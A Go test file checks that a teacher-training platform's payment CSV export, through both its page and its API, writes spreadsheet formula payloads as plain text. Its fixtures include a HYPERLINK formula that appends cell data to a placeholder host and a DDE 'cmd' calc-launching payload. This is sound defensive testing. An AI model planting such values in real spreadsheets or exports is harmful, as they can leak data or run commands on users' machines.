package web_test

import (
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"ardoise/courses"
	"ardoise/internal/testenv"
	"ardoise/profile"
)

// TestPaymentCSVWritesFormulasAsText: teachers whose names a spreadsheet
// would run as formulas (=HYPERLINK(…), +, -, @) complete a module, an
// inspector validates and exports through the real routes (the page's
// form and the API): every such cell starts with an apostrophe. Fields
// that validation keeps free of tabs and carriage returns today are
// checked too, on lines stored with them (as an older version could
// have), and the numbers Ardoise writes stay numbers.
func TestPaymentCSVWritesFormulasAsText(t *testing.T) {
	testenv.ForEachBackend(t, func(t *testing.T, env *testenv.Env) {
		ctx := testenv.Ctx(t)
		const slug = "module-csv"
		quickModule(t, env, slug, "formatrice-csv", 90)
		lyon := profile.Territory{Academie: "lyon", Departement: "69"}
		names := []string{`=HYPERLINK("http://x"&A2,"Voir")`, "+33 Alice", "-2+3 Bernard", "@SUM(1) Chloé"}
		var ids []string
		for _, n := range names {
			ids = append(ids, completeModule(t, env, teacherNamed(t, env, profile.RoleLearner, n, lyon), slug).ID)
		}
		year := courses.SchoolYear(time.Now())
		for i, bad := range []struct{ title, circ string }{{"\t=cmd|' /C calc'!A0", "Lyon 1"}, {"Titre", "\r=1+1"}} {
			l := courses.Line{ID: "ancien" + string(rune('a'+i)) + ":" + slug + ":" + year, LearnerID: "ancien", LearnerName: "Ancien",
				Slug: slug, Title: bad.title, Version: 1, SchoolYear: year, CountsFor: courses.CountsObligation, Nature: courses.NatureDistance,
				Territory: profile.Territory{Academie: "lyon", Departement: "69", Circonscription: bad.circ}, DeclaredMinutes: 90,
				Quizzes: []courses.QuizEvidence{}, CompletedAt: time.Now(), State: courses.StateValidated, CreatedAt: time.Now(),
				Events: []courses.Event{{At: time.Now(), By: "x", ByName: "Inspecteur", Action: courses.ActionValidate, State: courses.StateValidated}}}
			if err := courses.NewStore(env.Sys.DB, env.Sys.Claims).ImportLine(ctx, &l); err != nil {
				t.Fatal(err)
			}
		}
		insp := env.CreateUser(t, profile.RoleInspector)
		api := apiClientFor(t, env, insp)
		if st, _, raw := api.call("POST", "/api/v1/inspection/hours/review", map[string]any{"lines": ids, "action": "validate"}); st != 200 ||
			strings.Contains(raw, `"skipped":["`) {
			t.Fatalf("validate: %d %s", st, raw)
		}
		resp, body := env.PostForm(t, env.LoggedIn(t, insp), "/inspection/heures/export", url.Values{"annee": {year}})
		if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("export: %d %.300s", resp.StatusCode, body)
		}
		check := func(route string, rows [][]string) {
			t.Helper()
			got := column(t, rows, "enseignant_nom")
			for _, n := range names {
				if !slices.Contains(got, "'"+n) {
					t.Errorf("%s: %q is not written as text: %q", route, n, got)
				}
			}
			if titles := column(t, rows, "titre"); !slices.Contains(titles, "'\t=cmd|' /C calc'!A0") {
				t.Errorf("%s: a title starting with a tab is not written as text: %q", route, titles)
			}
			if circs := column(t, rows, "circonscription"); !slices.Contains(circs, "'\r=1+1") {
				t.Errorf("%s: a circonscription starting with CR is not written as text: %q", route, circs)
			}
			for _, h := range column(t, rows, "heures") {
				if h != "1,50" {
					t.Errorf("%s: hours %q, want 1,50", route, h)
				}
			}
			for _, r := range rows {
				for _, cell := range r {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s: a cell starts a formula: %q", route, cell)
					}
				}
			}
		}
		rows := readCSV(t, body)
		if len(rows) != 1+len(names)+2 {
			t.Fatalf("page export: %d rows", len(rows))
		}
		check("page", rows)
		st, _, raw := api.call("POST", "/api/v1/inspection/hours/export", map[string]any{"schoolYear": year, "again": true})
		if st != 200 {
			t.Fatalf("API export: %d %s", st, raw)
		}
		check("API", readCSV(t, raw))
	})
}
